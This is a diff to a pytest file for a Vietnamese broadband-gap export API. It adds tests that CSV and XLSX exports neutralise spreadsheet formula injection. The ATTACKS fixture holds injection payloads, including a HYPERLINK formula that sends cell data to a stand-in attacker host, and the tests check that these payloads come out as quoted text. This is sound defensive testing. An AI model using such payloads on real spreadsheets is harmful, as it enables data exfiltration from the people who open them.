@@ -5,6 +5,8 @@ from __future__ import annotations
 import csv
 import io
 import json
+import shutil
+from collections.abc import Iterator
 from pathlib import Path
 
 import openpyxl
@@ -12,8 +14,11 @@ import pandas as pd
 import pytest
 from fastapi.testclient import TestClient
 
-from api.exports import to_xlsx
+from api.exports import to_csv, to_xlsx
+from api.main import create_app
 from api.results import fold
+from api.settings import Settings
+from geodx.contract import SYNTHETIC_NOTE
 
 SPECIAL = 'Xã Ea <Tu> "Mới" & Co'
 
@@ -90,12 +95,13 @@ def test_gaps_csv_has_bom_and_vietnamese_headers(client: TestClient) -> None:
     assert "attachment" in r.headers["content-disposition"]
     assert r.content.startswith(b"\xef\xbb\xbf")
     rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
-    assert rows[0][:2] == ["Mã xã", "Tên xã"] and "Số hộ còn thiếu" in rows[0]
-    assert rows[1][1] == SPECIAL and rows[1][4] == "Cáp quang"
+    assert rows[0] == [SYNTHETIC_NOTE]  # the results are synthetic
+    assert rows[1][:2] == ["Mã xã", "Tên xã"] and "Số hộ còn thiếu" in rows[1]
+    assert rows[2][1] == SPECIAL and rows[2][4] == "Cáp quang"
     english = client.get("/gaps?indicator=mobile&format=csv").content.decode(
         "utf-8-sig"
     )
-    assert english.splitlines()[0].startswith("commune_code,commune_name")
+    assert english.splitlines()[1].startswith("commune_code,commune_name")
 
 
 def test_gaps_xlsx_reads_back(client: TestClient) -> None:
@@ -103,13 +109,109 @@ def test_gaps_xlsx_reads_back(client: TestClient) -> None:
     assert r.headers["content-type"].startswith("application/vnd.openxmlformats")
     ws = openpyxl.load_workbook(io.BytesIO(r.content)).active
     rows = list(ws.iter_rows(values_only=True))
-    assert rows[0][0] == "Mã xã" and rows[1][1] == SPECIAL
-    assert [row[-1] for row in rows[1:]] == [53, 29, 5]
+    assert rows[0][0] == SYNTHETIC_NOTE
+    assert rows[1][0] == "Mã xã" and rows[2][1] == SPECIAL
+    assert [row[-1] for row in rows[2:]] == [53, 29, 5]
 
 
 def test_xlsx_never_turns_text_into_formulas() -> None:
     data = to_xlsx(
-        pd.DataFrame({"name": ["=HYPERLINK(1)", "Xã A"], "n": [1, 2]}), title="t"
+        pd.DataFrame({"name": ["=HYPERLINK(1)", "Xã A"], "n": [-1, 2]}), title="t"
     )
     ws = openpyxl.load_workbook(io.BytesIO(data)).active
-    assert ws["A2"].data_type == "s" and ws["A2"].value == "=HYPERLINK(1)"
+    assert ws["A2"].data_type == "s" and ws["A2"].value == "'=HYPERLINK(1)"
+    assert ws["B2"].data_type == "n" and ws["B2"].value == -1
+
+
+ATTACKS = {
+    "24121": ('=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")', "+1+1"),
+    "24115": ("-2+3", "@SUM(A1:A9)"),
+    "24133": ("\tTab", "\rCR"),
+    "24340": ("=1+1", "Huyện Lắk"),
+}
+
+
+@pytest.fixture(scope="module")
+def attacked(
+    results_dir: Path, tmp_path_factory: pytest.TempPathFactory
+) -> Iterator[TestClient]:
+    out = tmp_path_factory.mktemp("attacked")
+    for f in results_dir.iterdir():
+        if f.is_file():
+            shutil.copy(f, out / f.name)
+    doc = json.loads((out / "communes.geojson").read_text(encoding="utf-8"))
+    for feature in doc["features"]:
+        props = feature["properties"]
+        if props["commune_code"] in ATTACKS:
+            props["commune_name"], props["district_name"] = ATTACKS[
+                props["commune_code"]
+            ]
+    (out / "communes.geojson").write_text(json.dumps(doc), encoding="utf-8")
+    summary = json.loads((out / "summary.json").read_text(encoding="utf-8"))
+    summary["synthetic"] = False
+    (out / "summary.json").write_text(json.dumps(summary), encoding="utf-8")
+    with TestClient(create_app(Settings(results_dir=out))) as client:
+        yield client
+
+
+def test_csv_neutralises_formulas_and_keeps_numbers(attacked: TestClient) -> None:
+    for indicator in ("fibre", "mobile"):
+        body = attacked.get(f"/gaps?indicator={indicator}&format=csv").content
+        rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
+        assert rows[0][0] == "commune_code"  # real data: no synthetic note
+        for row in rows[1:]:
+            for cell in (row[1], row[3]):
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+            assert float(row[5]) >= 0 and int(row[-1]) >= 0
+    fibre = attacked.get("/gaps?indicator=fibre&format=csv").content
+    rows = list(csv.reader(io.StringIO(fibre.decode("utf-8-sig"))))
+    names = {r[0]: (r[1], r[3]) for r in rows[1:]}
+    assert names["24133"] == ("'\tTab", "'\rCR")
+    assert names["24115"] == ("'-2+3", "'@SUM(A1:A9)")
+    assert names["24340"] == ("'=1+1", "Huyện Lắk")
+
+
+def test_xlsx_writes_attacker_names_as_text(attacked: TestClient) -> None:
+    body = attacked.get("/gaps?indicator=fibre&format=xlsx").content
+    ws = openpyxl.load_workbook(io.BytesIO(body)).active
+    assert ws["A1"].value == "commune_code"
+    for row in ws.iter_rows(min_row=2):
+        for cell in row:
+            assert cell.data_type != "f", cell.value
+            if isinstance(cell.value, str):
+                assert not cell.value.startswith(("=", "+", "-", "@")), cell.value
+    assert "'=1+1" in [c.value for c in ws["B"]]
+
+
+def test_negative_numbers_stay_numbers_in_csv() -> None:
+    body = to_csv(pd.DataFrame({"name": ["-5", "-x"], "n": [-3, -2.5]}))
+    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
+    assert rows[1:] == [["-5", "-3.0"], ["'-x", "-2.5"]]
+
+
+def test_exports_are_built_once_per_version_and_key(client: TestClient) -> None:
+    results = client.app.state.results  # type: ignore[attr-defined]
+    first = client.get("/gaps?indicator=mobile&format=xlsx&lang=vi").content
+    builds = results._exports.builds
+    for _ in range(3):
+        assert client.get("/gaps?indicator=mobile&format=xlsx&lang=vi").content == first
+    assert results._exports.builds == builds
+    client.get("/gaps?indicator=mobile&format=xlsx&lang=en")
+    assert results._exports.builds == builds + 1
+
+
+@pytest.mark.parametrize(
+    ("query", "codes"),
+    [
+        ("buon ma thuot", ["24115", "24121", "24133"]),
+        ("Huyện Lắk", ["24340", "24343"]),
+        ("dak-lieng", ["24340"]),
+        ("daklieng", ["24340"]),
+        ("'", []),
+    ],
+)
+def test_search_folds_punctuation_and_finds_by_district(
+    client: TestClient, query: str, codes: list[str]
+) -> None:
+    body = client.get("/communes", params={"q": query}).json()
+    assert sorted(c["commune_code"] for c in body["communes"]) == codes
